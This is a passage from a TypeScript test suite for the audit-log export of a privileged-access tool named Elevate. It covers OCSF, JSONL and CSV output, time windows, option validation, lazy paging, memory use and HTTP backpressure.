  it('when exported as ocsf, then every event is valid by the OCSF schema and says which Elevate event it was', async () => {
    const records = ndjson(await exportText(store, { format: 'ocsf' }));
    expect(records).toHaveLength(all.length);

    // Every deviation, collected, so one failing event does not hide the others.
    const problems: string[] = [];
    const check = (ok: boolean, what: string) => {
      if (!ok) problems.push(what);
    };
    records.forEach((r, k) => {
      const event = all[k]!;
      const at = `${event.type} #${event.position}`;
      // Attributes, types, enums, required ones and type_uid, by the OCSF schema's definitions.
      for (const error of ocsfSchemaErrors(r)) check(false, `${at}: ${error}`);
      check(r.time === Date.parse(event.at), `${at}: time ${String(r.time)}`);
      check([1, 2, 3, 4].includes(r.severity_id as number), `${at}: severity_id ${String(r.severity_id)}`);
      // 0 Unknown: the default of a type toOcsf does not map specially (see unmappedEvent).
      check([0, 1, 2].includes(r.status_id as number), `${at}: status_id ${String(r.status_id)}`);
      check(typeof r.message === 'string' && r.message.length > 0, `${at}: no message`);
      check(pathValue(r, 'metadata.version') === OCSF_VERSION, `${at}: metadata.version`);
      check(pathValue(r, 'metadata.product.name') === 'Elevate', `${at}: metadata.product.name`);
      check(
        pathValue(r, 'metadata.product.vendor_name') === 'Elevate',
        `${at}: metadata.product.vendor_name`,
      );
      check(pathValue(r, 'metadata.uid') === event.id, `${at}: metadata.uid`);
      check(pathValue(r, 'metadata.sequence') === event.position, `${at}: metadata.sequence`);
      check(
        pathValue(r, 'metadata.correlation_uid') === (event.elevationId ?? undefined),
        `${at}: metadata.correlation_uid`,
      );
    });
    expect(problems).toEqual([]);
    expect(records.map((r) => r.unmapped)).toEqual(all.map(asRecord));
  });

  it('when exported as ocsf, then grants, removals, drift and refused credentials land in the IAM and Findings classes', async () => {
    const records = ndjson(await exportText(store, { format: 'ocsf' }));
    const byType = (type: EventType) => records.filter((r) => pathValue(r, 'metadata.event_code') === type);
    const classes = (type: EventType) =>
      [...new Set(byType(type).map((r) => `${String(r.class_uid)}/${String(r.activity_id)}`))].sort();

    expect(classes('grant.confirmed')).toEqual(['3001/7', '3003/1', '3006/3']);
    expect(classes('elevation.revoked')).toEqual(['3001/7', '3001/8', '3004/3', '3006/4']);
    expect(classes('credentials.delivered')).toEqual(['3004/2']);
    expect(classes('credentials.refused')).toEqual(['3004/2']);
    expect(classes('audit.exported')).toEqual(['3004/2']);
    expect(classes('drift.detected')).toEqual(['2004/1']);
    expect(classes('drift.reverted')).toEqual(['3006/4']);
    expect(classes('bot.locked')).toEqual(['3001/9']);
    expect(classes('bot.unlocked')).toEqual(['3001/12']);
    expect(classes('bot.disabled')).toEqual(['3001/5']);
    expect(classes('bot.enabled')).toEqual(['3001/2']);
    expect(classes('bot.key_rotated')).toEqual(['3001/4']);
    for (const r of byType('bot.locked')) {
      expect(r.user).toMatchObject({ uid: pathValue(r, 'unmapped.data.botId'), type: 'Bot' });
      expect(pathValue(r, 'actor.user.type')).toBe('Admin');
    }
    expect(classes('auth.refused')).toEqual(['3002/1']);
    expect(classes('admin.signed_in')).toEqual(['3002/1']);
    expect(classes('admin.action')).toEqual(['3004/2', '3004/3']);
    expect(classes('elevation.requested')).toEqual(['3004/1']);
    expect(classes('request.refused')).toEqual(['3004/1', '3004/2']);
    for (const r of byType('auth.refused')) expect(r.status_id).toBe(2);

    const ldapGrant = byType('grant.confirmed').find((r) => r.class_uid === 3006)!;
    const receipt = (ldapGrant.unmapped as { data: { receipt: { principal: string; target: TargetRef } } })
      .data.receipt;
    expect(ldapGrant.group).toMatchObject({ uid: LDAP_OPS.groupDn, name: 'ops-admins' });
    expect(ldapGrant.user).toMatchObject({ uid: receipt.principal });
    const awsGrant = byType('grant.confirmed').find((r) => r.class_uid === 3001)!;
    expect(awsGrant.policies).toEqual([
      expect.objectContaining({ name: `elevate-${String(pathValue(awsGrant, 'metadata.correlation_uid'))}` }),
    ]);
    const drift = byType('drift.detected')[0]!;
    expect(drift).toMatchObject({
      status_id: 1,
      is_alert: true,
      finding_info: { uid: pathValue(drift, 'metadata.uid') },
    });
    expect(typeof pathValue(drift, 'finding_info.title')).toBe('string');
  });

  it('when a window is given, then since is inclusive, until exclusive, and the whole chain is scanned', async () => {
    // Boundaries on events' own instants, well inside the log; right after `since` in the chain
    // comes a refusal stamped by a clock five seconds behind, so it falls outside the window.
    const k = all.findIndex((e, j) => j > all.length / 3 && all[j + 1]?.type === 'auth.refused');
    const since = all[k]!.at;
    const until = all[Math.floor((2 * all.length) / 3)]!.at;
    const expected = all.filter((e) => inWindow(e, since, until)).map((e) => e.position);

    expect(all.some((e) => e.at === since && expected.includes(e.position))).toBe(true);
    expect(all.some((e) => e.at === until)).toBe(true);
    expect(all.filter((e) => e.at === until).some((e) => expected.includes(e.position))).toBe(false);
    // Chain order is not time order: the window is not one contiguous run of positions.
    const contiguous = expected.at(-1)! - expected[0]! + 1 === expected.length;
    expect(contiguous).toBe(false);

    const jsonl = ndjson(await exportText(store, { format: 'jsonl', since, until })).map((r) => r.position);
    const csv = parseCsv(await exportText(store, { format: 'csv', since, until }))
      .slice(1)
      .map((row) => Number(row[0]));
    const ocsf = ndjson(await exportText(store, { format: 'ocsf', since, until })).map((r) =>
      pathValue(r, 'metadata.sequence'),
    );
    expect(jsonl).toEqual(expected);
    expect(csv).toEqual(expected);
    expect(ocsf).toEqual(expected);
  });

  it('when the window is written with another zone or one-sided, then it means the same instants', async () => {
    const pivot = all[Math.floor(all.length / 2)]!.at;
    const offset = new Date(Date.parse(pivot) + 2 * 3_600_000).toISOString().replace('Z', '+02:00');
    const after = ndjson(await exportText(store, { format: 'jsonl', since: offset })).map((r) => r.position);
    const before = ndjson(await exportText(store, { format: 'jsonl', until: pivot })).map((r) => r.position);

    expect(after).toEqual(all.filter((e) => inWindow(e, pivot)).map((e) => e.position));
    expect(before).toEqual(all.filter((e) => inWindow(e, undefined, pivot)).map((e) => e.position));
    expect(after.length + before.length).toBe(all.length);
  });

  it('when nothing falls in the window, then csv is the header alone and jsonl and ocsf are empty', async () => {
    const window = { since: '2020-01-01T00:00:00Z', until: '2020-01-02T00:00:00Z' };
    expect(await exportText(store, { format: 'csv', ...window })).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
    expect(await exportText(store, { format: 'jsonl', ...window })).toBe('');
    expect(await exportText(store, { format: 'ocsf', since: all[0]!.at, until: all[0]!.at })).toBe('');
  });

  it('when options are invalid, then exportAudit throws at once naming the option, before reading the store', () => {
    const spy = spyOn(store);
    const bad: [Record<string, unknown>, string][] = [
      [{ format: 'xml' }, 'format'],
      [{ format: undefined }, 'format'],
      [{ since: 'yesterday' }, 'since'],
      [{ since: '2025-03-01T00:00:00' }, 'since'],
      [{ since: '2025-03-01' }, 'since'],
      [{ until: '2025-02-30T25:00:00Z' }, 'until'],
      [{ since: '2025-03-02T00:00:00Z', until: '2025-03-01T00:00:00Z' }, 'until'],
      [{ pageSize: 0 }, 'pageSize'],
      [{ pageSize: 1.5 }, 'pageSize'],
      [{ pageSize: 10_001 }, 'pageSize'],
    ];
    for (const [opts, field] of bad) {
      let thrown: unknown;
      try {
        exportAudit(spy.store, { format: 'jsonl', ...opts });
      } catch (error) {
        thrown = error;
      }
      expect(thrown, JSON.stringify(opts)).toBeInstanceOf(InvalidExportError);
      expect((thrown as InvalidExportError).field).toBe(field);
    }
    expect(spy.calls).toEqual([]);
  });

  it('when read, then the store is paged lazily, one page per chunk, following the chain', async () => {
    const spy = spyOn(store);
    const chunks = exportAudit(spy.store, { format: 'csv', pageSize: 500 });

    const header = await chunks.next();
    expect(header.value).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
    expect(spy.calls).toEqual([]);
    const first = await chunks.next();
    expect(spy.calls).toEqual([[0, 500]]);
    expect(parseCsv(first.value as string)).toHaveLength(500);

    const rest = await collect(chunks);
    for (const chunk of rest) expect(parseCsv(chunk).length).toBeLessThanOrEqual(500);
    const pages = Math.floor(all.length / 500) + 1;
    expect(spy.calls).toHaveLength(pages);
    expect(spy.calls.map(([after]) => after)).toEqual(
      Array.from({ length: pages }, (_, k) => (k === 0 ? 0 : all[k * 500 - 1]!.position)),
    );
    expect(spy.calls.every(([, limit]) => limit === 500)).toBe(true);
  });

  it('when asked for the content type, then ndjson for jsonl and ocsf, utf-8 csv for csv', () => {
    expect(EXPORT_FORMATS.map(contentTypeOf)).toEqual([
      'application/x-ndjson',
      'text/csv; charset=utf-8',
      'application/x-ndjson',
    ]);
  });
});

// ---------------------------------------------------------------------------------------------

describe('audit export of 100,000 events', () => {
  const TOTAL = 100_000;
  let stores: Stores;
  let store: AuditLog;
  let gc: () => void;

  beforeAll(async () => {
    setFlagsFromString('--expose-gc');
    gc = runInNewContext('gc') as () => void;
    stores = await openStores({ sqlitePath: join(dir, 'large.db') });
    store = stores.auditLog;
    let appended = 0;
    for (const event of realisticEvents(Math.ceil(TOTAL / 40))) {
      await store.append(event);
      appended += 1;
      if (appended === TOTAL) break;
    }
  }, 120_000);
  afterAll(() => stores.database.close());

  it.each(EXPORT_FORMATS)(
    'when %s is consumed chunk by chunk, then the heap grows by far less than the output',
    async (format: ExportFormat) => {
      gc();
      const baseline = process.memoryUsage().heapUsed;
      let peak = 0;
      let bytes = 0;
      let lines = 0;
      let chunks = 0;
      for await (const chunk of exportAudit(store, { format })) {
        bytes += Buffer.byteLength(chunk, 'utf8');
        lines += countLines(chunk);
        chunks += 1;
        if (chunks % 4 === 1) {
          gc();
          peak = Math.max(peak, process.memoryUsage().heapUsed - baseline);
        }
      }

      expect(lines).toBe(format === 'csv' ? TOTAL + 1 : TOTAL);
      expect(bytes).toBeGreaterThan(TOTAL * 300);
      // Holding the output, or the events, at once would take at least `bytes`.
      expect(peak).toBeLessThan(bytes / 4);
    },
    60_000,
  );

  it('when piped to an HTTP client that stops reading, then the store stops being read until it reads again', async () => {
    const spy = spyOn(store);
    const server: Server = createServer((_req, res) => {
      res.setHeader('content-type', contentTypeOf('ocsf'));
      pipeline(Readable.from(exportAudit(spy.store, { format: 'ocsf' })), res).catch(() => undefined);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const { port } = server.address() as AddressInfo;
      const response = await new Promise<IncomingMessage>((resolve, reject) => {
        request({ host: '127.0.0.1', port, path: '/export' }, resolve).on('error', reject).end();
      });
      expect(response.headers['content-type']).toBe('application/x-ndjson');

      // Not reading: the buffers fill, then the export waits.
      await sleep(500);
      const whilePaused = spy.calls.length;
      await sleep(300);
      expect(spy.calls.length).toBe(whilePaused);
      const pages = TOTAL / 1000 + 1;
      expect(whilePaused).toBeLessThan(pages / 4);

      let lines = 0;
      for await (const chunk of response as AsyncIterable<Buffer>)
        lines += countLines(chunk.toString('latin1'));
      expect(lines).toBe(TOTAL);
      expect(spy.calls).toHaveLength(pages);
    } finally {
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    }
  }, 60_000);
});
